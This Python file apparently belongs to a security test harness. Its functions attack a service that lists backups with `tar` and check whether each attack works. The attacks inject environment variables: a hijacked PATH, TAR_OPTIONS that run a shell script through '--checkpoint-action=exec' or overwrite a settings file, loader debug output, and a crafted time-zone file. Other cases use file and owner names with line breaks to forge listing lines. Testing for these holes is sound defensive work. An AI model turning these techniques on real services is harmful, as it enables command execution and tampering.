"""Attacks through environment variables and through the backup itself."""

import struct

from prover import Target

from .stage import Stage


def attack_search_path(target: Target, stage: Stage) -> bool:
    """Choose where programs are searched for: in the project, which has its own `tar`."""
    target.list_backup(stage.project, {"PATH": f"{stage.project}/bin:/usr/bin:/bin"})
    print("the customer's script has run:", stage.marked())
    return stage.marked()


def attack_options_in_a_variable(target: Target, stage: Stage) -> bool:
    """Set the variable from which `tar` reads more options."""
    options = r"--checkpoint=1 --checkpoint-action=exec=sh\ build.sh"
    target.list_backup(stage.project, {"TAR_OPTIONS": options})
    print("the customer's script has run:", stage.marked())
    return stage.marked()


def attack_overwrite_a_file(target: Target, stage: Stage) -> bool:
    """Have `tar` write its list over the settings of the service."""
    options = "--index-file=../settings.ini"
    target.list_backup(stage.project, {"TAR_OPTIONS": options})
    print("settings.ini:", stage.settings.read_text())
    return "open = no" not in stage.settings.read_text()


def attack_loader(target: Target, stage: Stage) -> bool:
    """Set variables that the loader obeys before the program starts: it writes files."""
    loader = {"LD_DEBUG": "libs", "LD_DEBUG_OUTPUT": f"{stage.root}/written"}
    target.list_backup(stage.project, loader)
    written = list(stage.root.glob("written.*"))
    print("files that the loader wrote:", len(written))
    return bool(written)


def attack_time_zone_file(target: Target, stage: Stage) -> bool:
    """Name a file as the time zone: the C library reads the customer's own file."""
    counts = struct.pack(">6I", 0, 0, 0, 0, 1, 4)
    zone = struct.pack(">iBB", 12_780, 0, 0) + b"FUN\0"
    path = stage.write("project/zone", b"TZif" + bytes(16) + counts + zone)
    [line] = target.list_backup(stage.project, {"TZ": f":{path}"})
    print(line)
    return " 03:33 " in line


def attack_owner_of_a_file(target: Target, stage: Stage) -> bool:
    """Put a line break into the owner's name, which `tar` prints as it is."""
    forged = "-rw-r--r-- root/root 9 2026-11-24 10:00 payroll.txt"
    stage.back_up("report.txt", owner=f"rossi\n{forged}\n")
    found = target.list_backup(stage.project, {})
    print(*found, sep="\n")
    return forged in found


def attack_name_of_a_file(target: Target, stage: Stage) -> bool:
    """Have `tar` print names unescaped, so that one with a line break forges a line."""
    stage.back_up("report.txt\npayroll.txt", owner="rossi")
    options = {"TAR_OPTIONS": "--quoting-style=literal"}
    found = target.list_backup(stage.project, options)
    print(*found, sep="\n")
    return "payroll.txt" in found
